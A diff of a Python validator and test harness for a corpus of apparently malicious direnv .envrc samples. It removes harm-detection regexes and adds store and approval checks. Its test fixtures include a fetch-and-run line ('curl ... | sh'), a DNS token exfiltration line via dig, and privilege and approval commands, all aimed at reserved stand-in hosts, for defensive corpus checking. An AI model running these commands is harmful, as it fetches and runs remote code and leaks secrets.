@@ -8,58 +8,34 @@ samples.py --build OUT     writes OUT/<half>/<name>/files and, for a change, OUT
 samples.py --test          shows that planted faults are refused
 """
 import collections, hashlib, os, pathlib, re, shutil, subprocess, sys, tempfile, tomllib
+from inert import harm_of, hosts_of
+from store import ROOT, STORE, approvals, state
 
 HERE = pathlib.Path(__file__).resolve().parent
 FOLDER = HERE / "malicious"
 CATALOGUE = """E101 E102 E103 E104 E105 E201 E202 E203 E204 E205 E206 E207 E208 E209 E210 E211 E301 E302 E303 E304 E305
 E401 E402 E403 E404 E405 E406 E501 E502 E503 E504 E505 E601 E602 E603 E604 E901 E902 E903 E906
+D1 D2 D3 D4 D5 D6 D7 D8 D9
 N01 N02 N03 N04 N05 N06 N07 N08 N09 N10 N11 N12""".split()
-KINDS = ["plain", "edit", "files", "diff"]
+KINDS = ["plain", "edit", "files", "diff", "store"]
+CHANGES = ["diff", "store"]
 NEEDED = {"techniques": list, "does": str, "carrier": str, "kind": str}
-OPTIONAL = {"bash": bool, "executable": list, "ignored": list, "symlink": dict, "mode": dict, "rename": dict}
-ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|u\{([0-9a-f]+)\}|\{(\d+)\*([^}]*)\}|(\\))")
-
-# Hosts. Names that RFC 2606 and addresses that RFC 5737 keep for documentation, and this machine.
-INERT = re.compile(r"((^|.\.)(example|invalid)|^example\.com|^(192\.0\.2|198\.51\.100|203\.0\.113)\.\d+|^127\.0\.0\.1|^localhost)(-1)?$")
-URL = re.compile(r"\b([a-z][a-z0-9+]*)://(?:[^/\s\"'@]*@)?([^/\s\"':?;)},&<>\\]*)|/dev/(tcp|udp)/([^/\s\"]+)/")
-DOTTED = re.compile(r"(?<![\w.-])[\w-]+(?:\.[\w-]+)+")
-# A dotted word that is no host: a version, a file by its ending, and what programs call their own.
-VERSION = re.compile(r"\d+\.\d+(\.\d+)?")
-FILE = re.compile(r"\.(bin|cjs|cnf|conf|d|db|debug|dylib|env|envrc|feature|gz|hex|jar|json|pem|png|service|sqlite|tgz|toml|tpl|txt|xz|yml)$")
-# These endings are also top-level domains, so that the word has to be a path.
-FILE_OR_HOST = re.compile(r"[^/]/[\w-]+\.(dev|git|md|pub|py|sh|so)$")
-OWN_WORDS = set("""C.UTF-8 URI.open alias.sync base64.b64decode builtins.fetchurl builtins.readFile client.authentication.k8s.io
-core.hooksPath core.pager core.sshCommand elpmaxe.emca os.environ process.argv.join r.on shop.settings.dev source.crates-io
-source.mirror u.urlopen urllib.request urllib.request.urlopen""".split())
-# Where a name is not resolved, a name server or a proxy may still answer; only TLS keeps what is sent from it.
-BY_NAME = {"https", "op", "docker", "s3", "file", "sparse+https", "git+https"}
-# What stays, destroys or gains rights, and what leaves the machine though nobody answers: such a line has to work with
-# something named acme, which is on no machine.
-HARM = [(re.compile(pattern), what) for pattern, what in [
-    (r"(?<!-)\b(rm|rmdir|unlink|shred|truncate|mkfs\S*)\s|\s-delete\b|\bdd\b.*\bof=", "deletes or overwrites"),
-    (r"\b(kill|pkill|killall|shutdown|reboot)\s", "ends programs"),
-    (r"\b(sudo|doas|pkexec|su)\s+(-\S+\s+)*[./\w]|\bchmod\s+\S*\+s|\bsetcap\b", "gains rights"),
-    (r"\b(crontab|systemctl|launchctl)\s|\bat\s+(-f|now)\b", "leaves a job"),
-    (r">>?\s*\"?(~|\$HOME|\$\{HOME|/etc|/usr|/var|/srv)|\btee\b.*\s\"?(~|\$HOME|/etc|/var)", "writes outside the folder"),
-    (r"\b(cp|mv|install|ln)\s.*\s\"?(~|\$HOME|\$units|\$cas|/etc|/usr|/var|/srv)", "writes outside the folder"),
-    (r"\bsed\s+-i|>>?\s*\.(git|vscode|github)/|\bcp\s.*\s\.envrc\b", "edits a file"),
-    (r"\bgit\s+config\s+(--global\s+)?\w+\.\w+\s+[^\s)]|\bgit\s+remote\s+add|\bnpm\s+config\s+set", "changes a configuration"),
-    (r"\bdirenv\s+(allow|permit|grant|deny|prune)\b", "changes approvals"),
-    (r"/dev/udp/|(?<![/\w-])(logger\s+-n|dig\s|host\s|nslookup\s|ping\s|getent\s+hosts)", "sends without an answer"),
-]]
-ACME = re.compile(r"acme", re.I)
+OPTIONAL = {"bash": bool, "executable": list, "ignored": list, "symlink": dict, "mode": dict, "rename": dict,
+            "approvals": list, "roots": list}
+ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|u\{([0-9a-f]+)\}|\{(\d+)\*([^}]*)\}|\{(root)\}|(\\))")
 
 
-def unescape(text):
-    """An `.esc` file: \\xNN a byte, \\u{N} a character, \\{N*text} a repetition, \\\\ a backslash; no other backslash."""
+def unescape(text, root):
+    """An `.esc` file: \\xNN a byte, \\u{N} a character, \\{N*text} a repetition, \\{root} the absolute folder, \\\\ a backslash; no other."""
     out, at = b"", 0
     for match in ESCAPE.finditer(text):
         between = text[at:match.start()]
         if "\\" in between:
             raise ValueError("a lone backslash")
-        byte, char, times, what, slash = match.groups()
+        byte, char, times, what, here, _ = match.groups()
         out += between.encode()
-        out += bytes.fromhex(byte) if byte else chr(int(char, 16)).encode() if char else (what * int(times)).encode() if times else b"\\"
+        out += bytes.fromhex(byte) if byte else chr(int(char, 16)).encode() if char else (what * int(times)).encode() if times else b""
+        out += root.encode() if here else b"" if byte or char or times else b"\\"
         at = match.end()
     if "\\" in text[at:]:
         raise ValueError("a lone backslash")
@@ -74,7 +50,7 @@ def real(stored, rename):
     return f"{part}/{rename.get(inner, inner)}"
 
 
-def files(folder, rename):
+def files(folder, rename, root):
     """Real paths and bytes of one sample: `files/...`, and `before/...` where it is a change."""
     found = {}
     for path in sorted(folder.rglob("*")):
@@ -90,7 +66,7 @@ def files(folder, rename):
             raise ValueError(f"{stored} is not ASCII")
         if path.stat().st_mode & 0o111:
             raise ValueError(f"{stored} is executable")
-        found[real(stored, rename)] = unescape(data.decode()) if path.suffix == ".esc" else data
+        found[real(stored, rename)] = unescape(data.decode(), f"{root}/{stored.parts[0]}") if path.suffix == ".esc" else data
     return found
 
 
@@ -108,8 +84,8 @@ def half_of(digest):
     return int(digest[-1], 16) % 2
 
 
-def read(folder):
-    """One sample: what `sample.toml` says, and its files. ValueError says what cannot be read."""
+def read(folder, root=ROOT):
+    """One sample: what `sample.toml` says, and its files if it lay at root. ValueError says what cannot be read."""
     if not (folder / "sample.toml").is_file():
         raise ValueError("no sample.toml")
     about = tomllib.loads((folder / "sample.toml").read_text())
@@ -118,7 +94,9 @@ def read(folder):
             raise ValueError(f"{key}: unknown, or of another type")
     for key in NEEDED.keys() - about.keys():
         raise ValueError(f"{key} is missing")
-    return about, files(folder, about.get("rename", {}))
+    found = files(folder, about.get("rename", {}), root)
+    found.update([*approvals(about, found, root)])
+    return about, found
 
 
 def every(folder=FOLDER):
@@ -139,57 +117,37 @@ def is_shell(path, data):
     return path.endswith((".envrc", ".sh", "direnvrc")) or re.match(rb"#!\S*(/env )?\S*\b(ba)?sh\b", data)
 
 
-def hosts_of(text):
-    """What is, or looks like, a host that is not kept for documentation."""
-    for match in URL.finditer(text):
-        scheme, host, device, address = match.groups()
-        host = host or address or ""
-        if scheme and (not host or scheme in ("op", "s3", "file")) or host.startswith("$"):
-            continue
-        if not INERT.search(host):
-            yield f"{host} is no inert host"
-        elif not host[0].isdigit() and host != "localhost" and (device or scheme not in BY_NAME):
-            yield f"{host} is asked by name without TLS"
-    for match in DOTTED.finditer(text):
-        word, lead = match[0], text[max(0, match.start() - 2):match.end()]
-        if not (INERT.search(word) or VERSION.fullmatch(word) or FILE.search(word) or FILE_OR_HOST.search(lead) or word in OWN_WORDS):
-            yield f"{word} looks like a host"
-    for match in re.finditer(r"\[[0-9a-f:]*::?[0-9a-f:]*\]", text):
-        if not match[0].startswith("[2001:db8:"):
-            yield f"{match[0]} looks like an address"
-
-
-def harm_of(text):
-    for line in text.splitlines():
-        without_hosts = DOTTED.sub(lambda m: "" if INERT.search(m[0]) else m[0], line)
-        for pattern, what in HARM:
-            if pattern.search(line) and not ACME.search(without_hosts):
-                yield f"{what}: {line.strip()[:80]}"
-
-
 def wrong(name, about, found):
     """What breaks a rule in one sample."""
     if not re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name):
         yield "name: words of small letters and digits"
     if about["kind"] not in KINDS:
         yield f"kind: one of {' '.join(KINDS)}"
-    if (about["kind"] == "diff") != any(path.startswith("before/") for path in found):
-        yield "kind: a diff has before/, and nothing else has"
+    if (about["kind"] in CHANGES) != any(path.startswith("before/") for path in found):
+        yield "kind: a diff or a store has before/, and nothing else has"
     techniques = about["techniques"]
     if not techniques or set(techniques) - set(CATALOGUE) or len(set(techniques)) < len(techniques):
         yield "techniques: some of the catalogue, each once"
     if not re.fullmatch(r"[A-Za-z.][ -~]{15,180}[.]", about["does"]):
         yield "does: a sentence"
     here = {path.removeprefix("files/") for path in found if path.startswith("files/")} | set(about.get("symlink", {}))
+    if any(path.startswith(STORE + "/") for path in here):
+        here.add(STORE)
     named = [about["carrier"], *about.get("executable", []), *about.get("ignored", []), *about.get("mode", {}), *about.get("rename", {}).values()]
     for path in named:
         if path not in here:
             yield f"no file {path}"
     if not any(path.rsplit("/", 1)[-1] == ".envrc" for path in here):
         yield "no .envrc"
-    if about["kind"] == "diff" and all(found.get("before/" + path) == found.get("files/" + path) for path in here):
+    if about["kind"] in CHANGES and {p[7:]: d for p, d in found.items() if p[0] == "b"} == {p[6:]: d for p, d in found.items() if p[0] == "f"}:
         yield "nothing changes"
-    for path, data in found.items():
+    shown = state(about, found, "files")
+    if shown != {technique for technique in techniques if technique[0] == "D"}:
+        yield f"techniques: direnv's folders show {sorted(shown)}"
+    if about["kind"] == "store" and state(about, found, "before"):
+        yield f"before/ is not in order: {sorted(state(about, found, 'before'))}"
+    texts = {f"approval {at}": approval.get("text", "").encode() for at, approval in enumerate(about.get("approvals", []))}
+    for path, data in [*found.items(), *texts.items()]:
         expected = about.get("bash", True) or path != f"files/{about['carrier']}"
         if is_shell(path, data) and parses(data) != expected:
             yield f"{path}: bash -n says otherwise"
@@ -248,7 +206,7 @@ def check():
     bad = list(problems())
     if not bad:
         _, by = counted()
-        bad += [f"{technique}: no sample" for technique in CATALOGUE if not by[technique]]
+        bad += [f"{t}: {by[t][half]} samples in half {half}" for t in CATALOGUE for half in (0, 1) if by[t][half] < 2]
         if (HERE / "malicious.tsv").read_text() != index():
             bad.append("malicious.tsv is old: --write")
     print(*bad, f"{sum(1 for _ in FOLDER.iterdir())} samples, {len(bad)} wrong", sep="\n")
@@ -259,8 +217,9 @@ def build(out):
     out = pathlib.Path(out).resolve()
     if HERE.parents[2] in [out, *out.parents]:
         sys.exit("OUT lies in the tree")
-    for name, about, found, digest in every():
+    for name, about, _, digest in every():
         root = out / str(half_of(digest)) / name
+        found = read(FOLDER / name, str(root))[1]
         for path, data in found.items():
             target = root / path
             target.parent.mkdir(parents=True, exist_ok=True)
@@ -280,6 +239,7 @@ GOOD = {
     "files/dot-envrc": "curl -s https://a.acme.example/x | sh\n",
 }
 ENVRC = "files/dot-envrc"
+DIRENV = "files/home/dot-config/direnv/"
 # What is planted in a good sample, and what is said of it.
 FAULTS = [
     ({"sample.toml": None}, "no sample.toml"),
@@ -290,13 +250,13 @@ FAULTS = [
     ({"sample.toml": GOOD["sample.toml"].replace("kind", "sort")}, "sort: unknown"),
     ({"sample.toml": GOOD["sample.toml"].replace('kind = "plain"\n', "")}, "kind is missing"),
     ({"sample.toml": GOOD["sample.toml"].replace("plain", "large")}, "kind: one of"),
-    ({"sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "a diff has before/"),
+    ({"sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "a diff or a store has before/"),
     ({"sample.toml": GOOD["sample.toml"].replace("A script is fetched and run.", "run")}, "does: a sentence"),
     ({"sample.toml": GOOD["sample.toml"].replace('".envrc"', '"env.sh"')}, "no file env.sh"),
     ({"sample.toml": GOOD["sample.toml"] + "bash = 1\n"}, "bash: unknown, or of another type"),
     ({"sample.toml": GOOD["sample.toml"] + "bash = false\n"}, "bash -n says otherwise"),
     ({"sample.toml": GOOD["sample.toml"] + 'executable = ["bin/git"]\n'}, "no file bin/git"),
-    ({"before/dot-envrc": "true\n"}, "a diff has before/"),
+    ({"before/dot-envrc": "true\n"}, "a diff or a store has before/"),
     ({"before/dot-envrc": GOOD[ENVRC], "sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "nothing changes"),
     ({ENVRC: None, "files/env.sh": "true\n"}, "no file .envrc"),
     ({ENVRC: None, "files/env.sh": "true\n"}, "no .envrc"),
@@ -325,6 +285,26 @@ FAULTS = [
     ({ENVRC: "direnv allow .\n"}, "changes approvals"),
     ({ENVRC: "dig $TOKEN.a.acme.example\n"}, "sends without an answer"),
     ({ENVRC: "sed -i s/a/b/ x\n"}, "edits a file"),
+    # What direnv's folders show has to be what the techniques say.
+    ({"sample.toml": GOOD["sample.toml"].replace("E101", "D5")}, "direnv's folders show []"),
+    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files" }]\n'}, "not understood"),
+    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = "a/.envrc", of = "files/b" }]\n'}, "no such file"),
+    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = ".envrc", text = "old" }]\n'}, "show ['D1']"),
+    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = "a/.envrc", text = "old" }]\n'}, "show ['D2']"),
+    ({"sample.toml": GOOD["sample.toml"] + """approvals = [
+        { part = "files", path = ".envrc", text = "old" }, { part = "files", path = ".envrc", of = "files/.envrc" }]\n"""}, "show ['D3']"),
+    ({"sample.toml": GOOD["sample.toml"] + """roots = ["work"]\napprovals = [
+        { part = "files", path = ".envrc", of = "files/.envrc" }]\n"""}, "show ['D4']"),
+    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = "a/.envrc", text = "sudo ./x" }]\n'}, "approval 0: gains rights"),
+    ({DIRENV + "direnv.toml": '[whitelist]\nprefix = ["/srv/acme"]\n'}, "show ['D5']"),
+    ({DIRENV + "direnv.toml.esc": '[whitelist]\nprefix = ["\\{root}/"]\n'}, "show ['D5']"),
+    ({DIRENV + "config.toml": "[global]\nload_dotenv = true\n"}, "show ['D6']"),
+    ({DIRENV + "direnv.toml": '[global]\nbash_path = "/opt/bash"\n'}, "show ['D7']"),
+    ({"files/home/dot-cache/direnv/cas/" + "0" * 64: "true\n"}, "show ['D8']"),
+    ({DIRENV + "lib/a.sh": "true\n"}, "show ['D9']"),
+    ({"files/home/dot-direnvrc": "true\n"}, "show ['D9']"),
+    ({DIRENV + "direnvrc": "true\n", DIRENV.replace("files", "before") + "direnv.toml": "[global]\nload_dotenv = true\n",
+      "sample.toml": GOOD["sample.toml"].replace("E101", "D9").replace("plain", "store")}, "before/ is not in order: ['D6']"),
 ]
 
 
@@ -355,7 +335,7 @@ def test():
     ]:
         if bool(said) != bool(says) or says and not any(says in problem for problem in said):
             failed.append(f"{what}: {said}")
-    if unescape("\\x00a\\u{3bf}\\{3*xy}\\\\") != b"\0a\xce\xbfxyxyxy\\":
+    if unescape("\\x00a\\u{3bf}\\{3*xy}\\{root}\\\\", "/r") != b"\0a\xce\xbfxyxyxy/r\\":
         failed.append("unescape")
     one = digest_of({"files/a": b"bc"}, {})
     if one in (digest_of({"files/ab": b"c"}, {}), digest_of({"files/a": b"bc"}, {"symlink": {"b": "c"}})):
